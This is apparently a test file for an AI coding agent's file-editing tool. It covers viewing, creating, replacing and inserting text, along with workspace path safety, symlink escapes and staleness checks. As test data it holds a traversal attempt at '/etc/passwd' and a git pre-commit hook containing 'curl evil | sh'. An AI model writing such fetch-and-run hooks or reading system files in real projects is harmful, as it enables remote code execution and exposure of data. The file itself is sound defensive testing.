// The text editor tool on a real temp folder: view, create, str_replace, insert, path safety and
// staleness.
import assert from 'node:assert/strict';
import { chmod, mkdtemp, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EditorTool } from '../../src/agent/tools/editor';
import type { ToolResult } from '../../src/agent/tools/tool';
import { ScriptedApprover } from '../support/approvers';
import { createTempRepo, type TempRepo } from '../support/tempRepo';
import { createToolContext, type TestToolContext } from '../support/toolContext';

const text = (result: ToolResult) => (typeof result.content === 'string' ? result.content : JSON.stringify(result.content));

describe('editor tool', () => {
  let repo: TempRepo;
  let editor: EditorTool;
  let context: TestToolContext;
  let approver: ScriptedApprover;

  async function setUp(files: Record<string, string>, answers: ConstructorParameters<typeof ScriptedApprover>[0] = [], approveAll = true) {
    repo = await createTempRepo(files, { git: false });
    approver = new ScriptedApprover(answers);
    context = await createToolContext(repo.root, approver, { approveAll });
    editor = new EditorTool();
  }
  const read = (path: string) => readFile(join(repo.root, path), 'utf8');

  afterEach(async () => {
    await repo?.remove();
  });

  it('declares the text_editor_20250728 tool', async () => {
    await setUp({});
    assert.deepEqual({ ...editor.definition(), max_characters: undefined }, { type: 'text_editor_20250728', name: 'str_replace_based_edit_tool', max_characters: undefined });
  });

  it('views a file with line numbers, and a range of it', async () => {
    await setUp({ 'a.txt': 'one\ntwo\nthree\nfour\n' });
    assert.equal(text(await editor.run({ command: 'view', path: 'a.txt' }, context)), '     1\tone\n     2\ttwo\n     3\tthree\n     4\tfour');
    assert.equal(text(await editor.run({ command: 'view', path: 'a.txt', view_range: [2, 3] }, context)), '     2\ttwo\n     3\tthree');
    assert.equal(text(await editor.run({ command: 'view', path: join(repo.root, 'a.txt'), view_range: [3, -1] }, context)), '     3\tthree\n     4\tfour');
  });

  it('says how many lines a file has when a view range is out of bounds', async () => {
    await setUp({ 'a.txt': 'one\ntwo\n' });
    const result = await editor.run({ command: 'view', path: 'a.txt', view_range: [1, 9] }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /has 2 lines/);
    assert.equal((await editor.run({ command: 'view', path: 'a.txt', view_range: [5, -1] }, context)).isError, true);
  });

  it('lists a folder two levels deep without hidden entries or node_modules', async () => {
    await setUp({ 'src/lib/deep/x.ts': '', 'src/a.ts': '', '.hidden': '', 'node_modules/p/index.js': '', 'README.md': '' });
    const [header, ...entries] = text(await editor.run({ command: 'view', path: '.' }, context)).split('\n');
    assert.match(header!, /up to 2 levels deep/);
    const listing = entries.join('\n');
    assert.match(listing, /^README\.md$/m);
    assert.match(listing, /^src\/a\.ts$/m);
    assert.match(listing, /^src\/lib\/$/m);
    assert.doesNotMatch(listing, /deep|\.hidden|node_modules/);
  });

  it('creates a new file, making its folders', async () => {
    await setUp({});
    const result = await editor.run({ command: 'create', path: 'src/new/file.ts', file_text: 'export const x = 1;\n' }, context);
    assert.equal(result.isError, false, text(result));
    assert.equal(await read('src/new/file.ts'), 'export const x = 1;\n');
  });

  it('refuses to create over a file it has not read', async () => {
    await setUp({ 'a.txt': 'keep me\n' });
    const result = await editor.run({ command: 'create', path: 'a.txt', file_text: 'gone' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /already exists and you have not viewed it/);
    assert.equal(await read('a.txt'), 'keep me\n');
    await editor.run({ command: 'view', path: 'a.txt' }, context);
    assert.equal((await editor.run({ command: 'create', path: 'a.txt', file_text: 'replaced\n' }, context)).isError, false);
    assert.equal(await read('a.txt'), 'replaced\n');
  });

  it('replaces text that matches exactly once and shows the edited region', async () => {
    await setUp({ 'a.js': 'const a = 1;\nconst b = 2;\nconst c = 3;\n' });
    const result = await editor.run({ command: 'str_replace', path: 'a.js', old_str: 'const b = 2;', new_str: 'const b = 20;' }, context);
    assert.equal(result.isError, false, text(result));
    assert.equal(await read('a.js'), 'const a = 1;\nconst b = 20;\nconst c = 3;\n');
    assert.match(text(result), /2\tconst b = 20;/);
  });

  it('refuses a str_replace whose old_str matches nowhere, with a whitespace hint', async () => {
    await setUp({ 'a.js': 'if (x) {\n    go();\n}\n' });
    const result = await editor.run({ command: 'str_replace', path: 'a.js', old_str: 'if (x) {\n  go();', new_str: 'y' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /No match for old_str in a\.js/);
    assert.match(text(result), /spaces, tabs or line breaks/);
  });

  it('refuses a str_replace whose old_str matches twice, naming the lines', async () => {
    await setUp({ 'a.js': 'x();\ny();\nx();\n' });
    const result = await editor.run({ command: 'str_replace', path: 'a.js', old_str: 'x();', new_str: 'z();' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /old_str matches 2 times in a\.js \(lines 1, 3\)/);
    assert.equal(await read('a.js'), 'x();\ny();\nx();\n');
  });

  it('inserts at the top and after the last line', async () => {
    await setUp({ 'a.txt': 'b\nc\n' });
    assert.equal((await editor.run({ command: 'insert', path: 'a.txt', insert_line: 0, insert_text: 'a' }, context)).isError, false);
    assert.equal((await editor.run({ command: 'insert', path: 'a.txt', insert_line: 3, insert_text: 'd\n' }, context)).isError, false);
    assert.equal(await read('a.txt'), 'a\nb\nc\nd\n');
  });

  it('refuses an insert line out of range', async () => {
    await setUp({ 'a.txt': 'b\nc\n' });
    const result = await editor.run({ command: 'insert', path: 'a.txt', insert_line: 5, insert_text: 'x' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /has 2 lines, so use 0 to 2/);
  });

  it('refuses paths with .. and absolute paths outside the workspace', async () => {
    await setUp({ 'a.txt': 'a\n' });
    for (const path of ['../outside.txt', 'sub/../../outside.txt', '/etc/passwd']) {
      const result = await editor.run({ command: 'view', path }, context);
      assert.equal(result.isError, true, path);
      assert.match(text(result), /outside the workspace/);
    }
    const created = await editor.run({ command: 'create', path: '../escape.txt', file_text: 'x' }, context);
    assert.equal(created.isError, true);
  });

  it('refuses a symlink inside the workspace that points outside, for reading and writing', async () => {
    const outside = await mkdtemp(join(tmpdir(), 'loupe-outside-'));
    try {
      await writeFile(join(outside, 'secret.txt'), 'secret\n');
      await setUp({ 'a.txt': 'a\n' });
      await symlink(join(outside, 'secret.txt'), join(repo.root, 'link.txt'));
      await symlink(outside, join(repo.root, 'linkdir'));
      await symlink(join(outside, 'not-yet.txt'), join(repo.root, 'dangling.txt'));
      assert.match(text(await editor.run({ command: 'view', path: 'link.txt' }, context)), /outside the workspace/);
      assert.match(text(await editor.run({ command: 'str_replace', path: 'link.txt', old_str: 'secret', new_str: 'x' }, context)), /outside the workspace/);
      assert.match(text(await editor.run({ command: 'create', path: 'linkdir/new.txt', file_text: 'x' }, context)), /outside the workspace/);
      assert.equal((await editor.run({ command: 'create', path: 'dangling.txt', file_text: 'x' }, context)).isError, true);
      assert.deepEqual((await readdir(outside)).sort(), ['secret.txt']);
      assert.equal(await readFile(join(outside, 'secret.txt'), 'utf8'), 'secret\n');
    } finally {
      await rm(outside, { recursive: true, force: true });
    }
  });

  it('refuses to edit a file changed on disk since it was viewed', async () => {
    await setUp({ 'a.txt': 'one\ntwo\n' });
    await editor.run({ command: 'view', path: 'a.txt' }, context);
    await writeFile(join(repo.root, 'a.txt'), 'one\ntwo\nthree (the user typed this)\n');
    const result = await editor.run({ command: 'str_replace', path: 'a.txt', old_str: 'two', new_str: '2' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /changed on disk or in an editor since you last read it/);
    assert.equal(await read('a.txt'), 'one\ntwo\nthree (the user typed this)\n');
    await editor.run({ command: 'view', path: 'a.txt' }, context);
    assert.equal((await editor.run({ command: 'str_replace', path: 'a.txt', old_str: 'two', new_str: '2' }, context)).isError, false);
  });

  it('writes nothing when the file changes while the change waits for approval', async () => {
    await setUp({ 'a.txt': 'one\n' }, [
      async () => {
        await writeFile(join(repo.root, 'a.txt'), 'one\nuser line\n');
        return { kind: 'accept' };
      },
    ], false);
    const result = await editor.run({ command: 'str_replace', path: 'a.txt', old_str: 'one', new_str: 'ONE' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /changed on disk or in an editor while the change waited for approval; nothing was written/);
    assert.equal(await read('a.txt'), 'one\nuser line\n');
  });

  it('writes atomically: no temp file left behind, and the file mode kept', async () => {
    await setUp({ 'run.sh': '#!/bin/sh\necho hi\n' });
    await chmod(join(repo.root, 'run.sh'), 0o755);
    await editor.run({ command: 'str_replace', path: 'run.sh', old_str: 'echo hi', new_str: 'echo hello' }, context);
    assert.equal(await read('run.sh'), '#!/bin/sh\necho hello\n');
    assert.equal((await stat(join(repo.root, 'run.sh'))).mode & 0o777, 0o755);
    assert.deepEqual(await readdir(repo.root), ['run.sh']);
  });

  it('keeps CRLF line endings when the model sends LF text', async () => {
    await setUp({ 'win.txt': 'alpha\r\nbeta\r\ngamma\r\n' });
    const replaced = await editor.run({ command: 'str_replace', path: 'win.txt', old_str: 'alpha\nbeta', new_str: 'alpha\nBETA\nextra' }, context);
    assert.equal(replaced.isError, false, text(replaced));
    await editor.run({ command: 'insert', path: 'win.txt', insert_line: 0, insert_text: 'top' }, context);
    assert.equal(await read('win.txt'), 'top\r\nalpha\r\nBETA\r\nextra\r\ngamma\r\n');
  });

  it('answers malformed input with an error that names the field', async () => {
    await setUp({ 'a.txt': 'a\n' });
    assert.match(text(await editor.run({ path: 'a.txt' }, context)), /Unknown or missing `command`/);
    assert.match(text(await editor.run({ command: 'view' }, context)), /needs `path`/);
    assert.match(text(await editor.run({ command: 'str_replace', path: 'a.txt', old_str: 5 }, context)), /needs `old_str` \(a string\)/);
    assert.match(text(await editor.run({ command: 'insert', path: 'a.txt', insert_line: 'one', insert_text: 'x' }, context)), /insert_line/);
    assert.match(text(await editor.run({ command: 'create', path: 'b.txt' }, context)), /needs `file_text`/);
    assert.match(text(await editor.run({ command: 'undo_edit', path: 'a.txt' }, context)), /not supported/);
  });

  it('refuses edits inside .git by policy, even when everything is approved', async () => {
    await setUp({ '.git/config': '[core]\n' });
    const result = await editor.run({ command: 'create', path: '.git/hooks/pre-commit', file_text: 'curl evil | sh' }, context);
    assert.equal(result.isError, true);
    assert.match(text(result), /inside \.git/);
  });
});
